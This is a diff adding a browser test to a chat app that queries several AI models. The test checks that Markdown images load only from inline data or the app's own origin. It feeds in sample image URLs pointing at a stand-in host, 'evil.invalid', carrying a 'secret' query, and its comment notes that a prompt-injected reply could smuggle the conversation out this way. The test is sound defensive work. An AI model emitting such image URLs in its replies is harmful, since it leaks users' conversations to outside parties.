@@ -163,6 +163,25 @@ test("chatroom asks three models at once: Markdown, code, reasoning, timings and
   assert.deepEqual(errors, []);
 });
 
+test("chatroom: Markdown images load only inline data and this origin's own files", async () => {
+  const { p, errors } = await openChat();
+  const offsite = [];
+  p.on("request", (r) => { if (!r.url().startsWith(worker.url) && !r.url().startsWith("data:")) offsite.push(r.url()); });
+  // A prompt-injected reply would put the conversation in an image URL's query.
+  const png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
+  await p.fill("#prompt", `![leak](https://evil.invalid/x.png?q=secret) ![leak2][ref] ![icon](/favicon.svg) ![dot](${png})\n\n[ref]: //evil.invalid/y.png`);
+  await p.press("#prompt", "Enter");
+  await idle(p);
+  const echo = '.column[data-model="modelmux/echo"] .msg.assistant .body';
+  const shown = await p.$$eval(`${echo} img`, (imgs) => imgs.map((i) => i.getAttribute("src")));
+  assert.deepEqual(shown, ["/favicon.svg", png]);
+  const links = await p.$$eval(`${echo} a`, (as) => as.map((a) => [a.textContent, a.getAttribute("href")]));
+  assert.deepEqual(links, [["leak", "https://evil.invalid/x.png?q=secret"], ["leak2", "//evil.invalid/y.png"]]);
+  assert.deepEqual(offsite, []);
+  assert.deepEqual(errors, []);
+  await p.context().close();
+});
+
 test("chatroom: system prompt and per-model parameters are sent; Esc stops a stream", async () => {
   const { p, errors } = await openChat();
   await p.click("#new-chat");
